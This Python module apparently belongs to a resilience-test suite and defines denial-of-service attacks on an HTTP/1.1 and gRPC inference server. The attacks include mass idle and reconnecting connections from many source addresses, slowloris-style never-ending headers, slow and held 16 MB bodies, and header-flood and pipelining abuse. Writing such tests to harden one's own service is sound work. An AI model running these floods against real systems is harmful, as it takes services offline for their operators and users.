"""Connections that hold a place, and heads and bodies that cost time: HTTP/1.1, and TCP below it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from attacks.aim import AGAIN, PLAIN, Aim, addresses, attack
from attacks.bombs import repeated
from attacks.questions import get, post
from attacks.wire import How, Line, Script

HEAD = b"POST /v2/models/churn/infer HTTP/1.1\r\nHost: attack\r\n"


def idle(first: bytes = b"") -> Script:
    """Sends something, or nothing, and stays."""

    def script(_: Line) -> Iterator[bytes | float]:
        if first:
            yield first
        yield 3600.0

    return script


def slow(first: bytes, drop: bytes, seconds: float) -> Script:
    """Sends a little, again and again."""

    def script(_: Line) -> Iterator[bytes | float]:
        yield first
        while True:
            yield seconds
            yield drop

    return script


@attack("1,024 idle connections at each port, from one address")
def idle_1024(aim: Aim) -> None:
    aim.http(idle(), count=1_024)
    aim.grpc(idle(), PLAIN, 1_024)


@attack("2,200 idle connections at each port, from 40 addresses")
def idle_addresses(aim: Aim) -> None:
    for source in addresses(40):
        aim.http(idle(), replace(PLAIN, source=source), 55)
        aim.grpc(idle(), replace(PLAIN, source=source), 55)


@attack("10,000 idle connections at the HTTP port, from one address")
def idle_10000(aim: Aim) -> None:
    aim.http(idle(), count=10_000)


@attack("10,000 idle connections at the HTTP port, from 200 addresses")
def idle_10000_addresses(aim: Aim) -> None:
    for source in addresses(200):
        aim.http(idle(), replace(PLAIN, source=source), 50)


@attack("1,024 idle connections at each port, from one address, which come again when they are closed")
def idle_again(aim: Aim) -> None:
    aim.http(idle(), AGAIN, 1_024)
    aim.grpc(idle(), AGAIN, 1_024)
    aim.admin(idle(), AGAIN, 256)


@attack(
    "2,000 idle connections at the HTTP port, from as many addresses, which come again when they are closed"
)
def idle_again_addresses(aim: Aim) -> None:
    for source in addresses(2_000):
        aim.http(idle(), replace(AGAIN, source=source))


@attack("1,024 idle connections at the admin port")
def idle_admin(aim: Aim) -> None:
    aim.admin(idle(), count=1_024)


@attack("connections opened and closed at once, 64 at a time")
def churn(aim: Aim) -> None:
    aim.http(lambda _: iter(()), How(again=True, abort=True), 64)


@attack("a connection for each request, 64 at a time")
def one_each(aim: Aim) -> None:
    closing = get("/v2").replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    aim.http(lambda _: iter((closing,)), AGAIN, 64)


@attack("1,000 heads that never end, a byte every second")
def slow_heads(aim: Aim) -> None:
    aim.http(slow(HEAD + b"x: ", b"y", 1.0), count=1_000)


@attack("1,000 bodies of 16 MB that never end, 64 kB and then a byte every second")
def slow_bodies(aim: Aim) -> None:
    first = HEAD + b"Content-Length: 16000000\r\n\r\n" + bytes(65_536)
    aim.http(slow(first, b"y", 1.0), count=1_000)


@attack("64 bodies of 16 MB from 32 addresses, all but the last byte")
def held_bodies(aim: Aim) -> None:
    first = HEAD + b"Content-Length: 16000000\r\n\r\n" + b"[" * 15_999_999
    for source in addresses(32):
        aim.http(slow(first, b"", 3600.0), replace(PLAIN, source=source), 2)


@attack("heads of 2,000 fields, and of 32 kB in one")
def many_fields(aim: Aim) -> None:
    large = HEAD + b"x: " + b"y" * 32_000 + b"\r\nContent-Length: 0\r\n\r\n"
    aim.http(repeated(large), AGAIN, 8)
    fields = b"".join(b"a%d:b\r\n" % number for number in range(2_000))
    aim.http(repeated(HEAD + fields + b"Content-Length: 0\r\n\r\n"), AGAIN, 8)


@attack("heads, each different, 64 pipelined on 16 connections")
def different_heads(aim: Aim) -> None:
    def script(line: Line) -> Iterator[bytes | float]:
        number = 0
        while True:
            while number - line.done >= 64:
                yield 0.001
            yield b"".join(
                b"GET /v2 HTTP/1.1\r\nHost: attack\r\nx-request: %d-%d\r\n\r\n" % (id(line), number + one)
                for one in range(16)
            )
            number += 16

    aim.http(script, AGAIN, 16)


@attack("Upgrade and Expect in every head, 64 pipelined on 16 connections")
def upgrades(aim: Aim) -> None:
    asked = b"Connection: Upgrade\r\nUpgrade: h2c\r\nExpect: 100-continue\r\n"
    aim.http(repeated(HEAD + asked + b"Content-Length: 2\r\n\r\n{}", ahead=64), AGAIN, 16)


@attack("requests that are refused: JSON without an end, 64 pipelined on 16 connections")
def refused(aim: Aim) -> None:
    aim.http(repeated(post(b'{"inputs":['), ahead=64), AGAIN, 16)
